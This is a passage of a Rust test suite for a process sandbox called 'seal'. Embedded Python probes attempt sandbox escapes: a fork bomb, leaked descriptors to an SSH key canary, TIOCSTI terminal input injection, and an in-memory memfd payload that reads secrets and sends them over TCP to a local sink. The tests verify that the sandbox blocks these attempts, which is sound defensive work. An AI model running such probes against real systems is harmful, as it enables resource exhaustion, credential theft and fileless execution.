            ("nonce", jstr(&env.nonce)),
            ("marker", jstr(&marker)),
        ]);

        // --out-live: a survivor's write would show on the host at once.
        let inside =
            env.run_probe_no_userns(&probe, &args, &["--out-live", env.out.to_str().unwrap()]);
        inside.expect_success();
        assert_fell_back(&inside);
        inside.probe().expect_eq("spawned", "OK");
        let left = procs_with_marker(&marker);
        assert!(left.is_empty(), "sandbox processes survived seal: {left:?}");
        let appeared = wait_until(Duration::from_secs(4), || {
            marker_file.exists() || !procs_with_marker(&marker).is_empty()
        });
        assert!(
            !appeared,
            "the daemon lived on after seal returned (marker file: {}, processes: {:?})",
            marker_file.exists(),
            procs_with_marker(&marker)
        );

        // Positive control: without seal the daemon outlives the probe and writes.
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let alive = !procs_with_marker(&marker).is_empty();
        let wrote = wait_until(Duration::from_secs(15), || marker_file.exists());
        kill_marked(&marker);
        assert!(
            alive && wrote,
            "positive control: daemon alive={alive}, wrote the marker file={wrote}"
        );
    });
}

const PARENT_WITH_CHILD: &str = r#"
import os, subprocess, sys, time
child = subprocess.Popen([sys.executable, "-I", "-S", "-c", "import time; time.sleep(120)", sys.argv[1] + "-child"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
print("ready", os.environ.get("HOME"), flush=True)
time.sleep(120)
"#;

#[test]
fn timeout_kills_every_process_of_the_run() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-timeout");
        let marker = format!("timeout-{}", env.nonce);
        let script = env.project.join("parent.py");
        env.write_owned(&script, PARENT_WITH_CHILD, 0o644);

        let mut running = env
            .seal_no_userns()
            .args(&["--timeout", "3s", "--"])
            .arg(&script)
            .arg(&marker)
            .spawn();
        running.wait_for_stdout("ready", Duration::from_secs(30));
        // Positive control: the child really ran (and would have slept for minutes). Only it
        // carries the "-child" marker; seal's own command line carries the plain one.
        let child_marker = format!("{marker}-child");
        let seen = procs_with_marker(&child_marker).len();
        let out = running.finish();
        assert_fell_back(&out);
        assert_eq!(
            seen,
            1,
            "the sandboxed child did not show up\n{}",
            out.describe()
        );
        out.expect_code(124);
        assert!(out.stderr.contains("--timeout"), "{}", out.describe());
        let left = wait_procs_gone(&marker, Duration::from_secs(10));
        kill_marked(&marker);
        assert!(left.is_empty(), "processes survived the timeout: {left:?}");
    });
}

#[test]
fn every_sandbox_process_dies_when_seal_is_killed() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-sigkill-seal");
        let marker = format!("orphan-{}", env.nonce);
        let script = env.project.join("parent.py");
        env.write_owned(&script, PARENT_WITH_CHILD, 0o644);

        // no_userns.py execs seal: the process started is seal itself.
        let mut running = env
            .seal_no_userns()
            .arg("--")
            .arg(&script)
            .arg(&marker)
            .spawn();
        running.wait_for_stdout("ready", Duration::from_secs(30));
        let child_marker = format!("{marker}-child");
        assert_eq!(
            procs_with_marker(&child_marker).len(),
            1,
            "the sandboxed child did not show up"
        );
        running.signal(libc::SIGKILL);
        let out = running.finish();
        assert_eq!(out.code(), 128 + libc::SIGKILL, "{}", out.describe());
        assert_fell_back(&out);
        let left = wait_procs_gone(&marker, Duration::from_secs(10));
        kill_marked(&marker);
        assert!(
            left.is_empty(),
            "sandbox processes survived SIGKILL of seal: {left:?}"
        );
        // A killed seal cannot remove the run's private HOME and TMPDIR: what is left must at
        // least stay private to the user. Removed here.
        let home = out
            .stdout
            .lines()
            .find_map(|l| l.strip_prefix("ready "))
            .map(std::path::PathBuf::from)
            .expect("the program printed its HOME");
        let scratch = home.parent().unwrap();
        if let Ok(meta) = fs::metadata(scratch) {
            assert_eq!(
                meta.mode() & 0o077,
                0,
                "{} is not private",
                scratch.display()
            );
            fs::remove_dir_all(scratch).unwrap();
        }

        // Positive control: killing a plain parent leaves its child running.
        let mut direct = env
            .host_command(PYTHON)
            .args(&["-I", "-S"])
            .arg(&script)
            .arg(&marker)
            .spawn();
        direct.wait_for_stdout("ready", Duration::from_secs(30));
        direct.signal(libc::SIGKILL);
        let orphan_alive = wait_until(Duration::from_secs(5), || {
            procs_with_marker(&marker).len() == 1 && procs_with_marker(&child_marker).len() == 1
        });
        kill_marked(&marker);
        let _ = direct.finish();
        assert!(orphan_alive, "positive control: the orphan was not found");
    });
}

const FORK_BOMB: &str = r#"
limit = A["max_forks"]
deadline = time.time() + 20
r, w = os.pipe()
kids = []
err = "none"
while len(kids) < limit and time.time() < deadline:
    try:
        pid = os.fork()
    except OSError as e:
        err = ename(e)
        break
    if pid == 0:
        # Block until the parent closes the pipe (or dies): never outlives it for long.
        os.close(w)
        try:
            os.read(r, 1)
        finally:
            os._exit(0)
    kids.append(pid)
put("forks", len(kids))
put("fork_error", err)
os.close(w)
for k in kids:
    os.waitpid(k, 0)
"#;

/// Without a user namespace RLIMIT_NPROC counts every process of the user on the host (and
/// exempts root, who gets a pids cgroup): the limit is the user's count at the start plus
/// --pids, so other tests running as the same user make the bound for uid 65534 inexact.
#[test]
fn fork_bomb_is_stopped_by_the_pids_limit() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-forkbomb");
        let probe = env.probe("forkbomb", FORK_BOMB);

        let args = jobj(&[("max_forks", "5000".into())]);
        let inside = env
            .seal_no_userns()
            .args(&["--pids", "64", "--"])
            .arg(&probe)
            .arg(&args)
            .deadline(Duration::from_secs(90))
            .output();
        env.assert_no_canary(&inside);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        p.expect_eq("fork_error", "EAGAIN");
        let forks: usize = p.get("forks").parse().unwrap();
        let bound = if v.is_root() { 64 } else { 64 + 200 };
        assert!(
            forks < bound,
            "{forks} forks succeeded under --pids 64\n{}",
            inside.describe()
        );

        // Positive control: without seal, 300 forks all succeed.
        let args = jobj(&[("max_forks", "300".into())]);
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let c = direct.probe();
        c.expect_eq("forks", "300");
        c.expect_eq("fork_error", "none");
    });
}

const INHERITED_FDS: &str = r#"
fd = A["fd"]
def read_fd():
    os.lseek(fd, 0, os.SEEK_SET)
    return os.read(fd, 200).decode()
attempt("inherited_fd", read_fd)
leaks = []
for n in range(3, 256):
    try:
        os.lseek(n, 0, os.SEEK_SET)
        if b"CANARY-" in os.read(n, 4096):
            leaks.append(str(n))
    except OSError:
        pass
put("leaks", ",".join(leaks))
"#;

/// A descriptor the caller leaked to seal (here a canary file at fd 7, not close-on-exec) must
/// not reach the program (runc CVE-2024-21626 was a leaked descriptor).
#[test]
fn descriptors_inherited_by_seal_do_not_reach_the_program() {
    use std::os::fd::AsRawFd;
    use std::os::unix::process::CommandExt;
    const FD: i32 = 7;
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-fds");
        let probe = env.probe("inherited_fds", INHERITED_FDS);
        let args = jobj(&[("fd", FD.to_string())]);
        let canary = fs::File::open(env.home.join(".ssh/id_rsa")).unwrap();
        let raw = canary.as_raw_fd();
        let leak_fd = |mut run: Run| {
            // SAFETY: dup2 is async-signal-safe; `canary` outlives the spawn.
            unsafe {
                run.cmd.pre_exec(move || {
                    if libc::dup2(raw, FD) == -1 {
                        return Err(std::io::Error::last_os_error());
                    }
                    Ok(())
                });
            }
            run
        };

        let inside = leak_fd(env.seal_no_userns().arg("--").arg(&probe).arg(&args)).output();
        env.assert_no_canary(&inside);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        p.expect_eq("inherited_fd", "EBADF");
        p.expect_eq("leaks", "");

        // Positive control: a plain program gets the descriptor and reads the key through it.
        let direct = leak_fd(
            env.host_command(PYTHON)
                .args(&["-I", "-S"])
                .arg(&probe)
                .arg(&args),
        )
        .output();
        direct.expect_success();
        let c = direct.probe();
        c.expect_eq("inherited_fd", &env.canary_file_content(".ssh/id_rsa"));
        c.expect_eq("leaks", &FD.to_string());
        drop(canary);
    });
}

// ---------------------------------------------------------------------------------------------
// Kernel-facing restrictions

const KERNEL: &str = r#"
import resource
PR_GET_SECCOMP, PR_GET_NO_NEW_PRIVS = 21, 39
put("no_new_privs", str(LIBC.prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)))
put("seccomp_mode", str(LIBC.prctl(PR_GET_SECCOMP, 0, 0, 0, 0)))
class CapHeader(ctypes.Structure):
    _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]
class CapData(ctypes.Structure):
    _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32),
                ("inheritable", ctypes.c_uint32)]
hdr = CapHeader(0x20080522, 0)
data = (CapData * 2)()
if LIBC.capget(ctypes.byref(hdr), data) == 0:
    put("cap_eff", "%08x%08x" % (data[1].effective, data[0].effective))
    put("cap_prm", "%08x%08x" % (data[1].permitted, data[0].permitted))
put("rlimit_core", "%d,%d" % resource.getrlimit(resource.RLIMIT_CORE))
put("keyctl", syscall("keyctl", 0, -3, 0))
params = ctypes.create_string_buffer(120)
put("io_uring_setup", syscall("io_uring_setup", 1, params))
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
def unshare(flags):
    ctypes.set_errno(0)
    return cres(LIBC.unshare(flags))
# Net alone needs no user namespace as root: refused by seal's filter, not the wrapper's.
put("unshare_newnet", in_child(lambda: unshare(CLONE_NEWNET)))
"#;

#[test]
fn no_capabilities_no_new_privs_and_the_seccomp_deny_list_hold() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-kernel");
        let probe = env.probe("kernel", KERNEL);

        let inside = env.run_probe_no_userns(&probe, "{}", &[]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        p.expect_eq("no_new_privs", "1");
        p.expect_eq("seccomp_mode", "2");
        p.expect_eq("cap_eff", "0000000000000000");
        p.expect_eq("cap_prm", "0000000000000000");
        p.expect_eq("rlimit_core", "0,0");
        p.expect_eq("keyctl", "EPERM");
        p.expect_eq("io_uring_setup", "EPERM");
        p.expect_eq("unshare_newnet", "EPERM");

        // Positive control: without seal (and without the wrapper).
        let direct = env.run_direct(&probe, "{}");
        direct.expect_success();
        let c = direct.probe();
        c.expect_eq("no_new_privs", "0");
        c.expect_eq("seccomp_mode", "0");
        c.expect_eq("keyctl", "OK");
        if v.is_root() {
            c.expect_not_in("cap_eff", &["0000000000000000"]);
            c.expect_eq("unshare_newnet", "OK");
        }
    });
}

const TIOCSTI_CTTY: &str = r##"
import fcntl, termios
put("stdin_isatty", "yes" if os.isatty(0) else "no")
attempt("tiocsti_ctty", lambda: fcntl.ioctl(0, termios.TIOCSTI, b"#") and None)
"##;

/// Without a devpts of its own the program holds the user's real terminal: pushing input into
/// it (CVE-2017-5226) must be refused. Here seal runs on a pty the test holds.
#[test]
fn tiocsti_on_the_controlling_terminal_is_refused() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-tiocsti");
        let probe = env.probe("tiocsti_ctty", TIOCSTI_CTTY);

        let mut s = env
            .seal_no_userns()
            .arg("--")
            .arg(&probe)
            .deadline(Duration::from_secs(60))
            .spawn_in_pty();
        s.wait_for("PROBE\ttiocsti_ctty", Duration::from_secs(30));
        let (code, _, transcript) = s.finish();
        assert_eq!(code, 0, "transcript:\n{transcript}");
        assert!(transcript.contains(DEGRADED_WARNING), "{transcript}");
        let p = Probe::parse(&transcript, transcript.clone());
        p.expect_eq("stdin_isatty", "yes");
        p.expect_eq("tiocsti_ctty", "EPERM");

        // Positive control: the same probe directly on the same kind of terminal.
        let mut d = env
            .host_command(PYTHON)
            .args(&["-I", "-S"])
            .arg(&probe)
            .deadline(Duration::from_secs(60))
            .spawn_in_pty();
        d.wait_for("PROBE\ttiocsti_ctty", Duration::from_secs(30));
        let (code, _, transcript) = d.finish();
        assert_eq!(code, 0, "transcript:\n{transcript}");
        let c = Probe::parse(&transcript, transcript.clone());
        if v.is_root() {
            c.expect_eq("tiocsti_ctty", "OK");
        } else {
            c.expect_in("tiocsti_ctty", &["OK", "EIO"]);
        }
    });
}

const MEMFD: &str = r#"
with open(A["payload_file"]) as f:
    src = f.read()
fd = os.memfd_create("payload", 0)
with open(sys.executable, "rb") as f:
    os.write(fd, f.read())
sys.stdout.flush()
pid = os.fork()
if pid == 0:
    try:
        # fexecve: execveat(fd, "", AT_EMPTY_PATH), no /proc needed.
        os.execve(fd, ["memfd-payload", "-I", "-S", "-c", src, sys.argv[1]], dict(os.environ))
    except OSError as e:
        sys.stdout.write("PROBE\tmemfd_exec\t%s\n" % ename(e))
        sys.stdout.flush()
    os._exit(111)
_, status = os.waitpid(pid, 0)
if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
    put("memfd_exec", "OK")
elif not (os.WIFEXITED(status) and os.WEXITSTATUS(status) == 111):
    put("memfd_exec", "status %d" % status)
"#;

/// What a payload executed from memory does.
const MEMFD_PAYLOAD: &str = r#"
put("payload_ran", "yes")
attempt("payload_read_ssh", lambda: "canary" if "CANARY-" in read_head(os.path.join(A["host_home"], ".ssh/id_rsa")) else "clean")
put("payload_env", "canary" if any("CANARY-" in v for v in os.environ.values()) else "clean")
def tcp():
    s = socket.create_connection(("127.0.0.1", A["port"]), timeout=3)
    s.sendall(("payload " + A["marker"]).encode())
    s.close()
attempt("payload_tcp", tcp)
put("payload_no_new_privs", str(LIBC.prctl(39, 0, 0, 0, 0)))
put("payload_keyctl", syscall("keyctl", 0, -3, 0))
"#;

/// A payload executed from a memfd inherits every restriction (the same Landlock domain and
/// seccomp filter), or its execution is refused.
#[test]
fn memfd_exec_payload_is_still_sandboxed() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-memfd");
        let sink = Sink::tcp();
        let payload_file = env.project.join("payload.txt");
        env.write_owned(
            &payload_file,
            &format!("{PRELUDE}\n{MEMFD_PAYLOAD}\nemit()\n"),
            0o644,
        );
        let probe = env.probe("memfd", MEMFD);
        let marker = format!("memfd-{}", env.nonce);
        let args = jobj(&[
            ("payload_file", jpath(&payload_file)),
            ("host_home", jpath(&env.home)),
            ("port", sink.port.to_string()),
            ("marker", jstr(&marker)),
        ]);

        let inside = env.run_probe_no_userns(&probe, &args, &[]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        if ["EPERM", "EACCES"].contains(&p.get("memfd_exec")) {
            eprintln!("memfd payload refused: {:?}", p.map);
            assert!(!p.has("payload_ran"), "{}", inside.describe());
        } else {
            p.expect_eq("memfd_exec", "OK");
            p.expect_eq("payload_ran", "yes");
            p.expect_eq("payload_read_ssh", "EACCES");
            p.expect_eq("payload_env", "clean");
            p.expect_eq("payload_tcp", "EACCES");
            p.expect_eq("payload_no_new_privs", "1");
            p.expect_eq("payload_keyctl", "EPERM");
        }
        sink.assert_untouched("memfd payload");

        // Positive control: without seal the payload reads and sends everything.
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let c = direct.probe();
        c.expect_eq("memfd_exec", "OK");
        c.expect_eq("payload_read_ssh", "canary");
        c.expect_eq("payload_env", "canary");
        c.expect_eq("payload_tcp", "OK");
        sink.assert_received(&marker, "memfd payload control");
    });
}
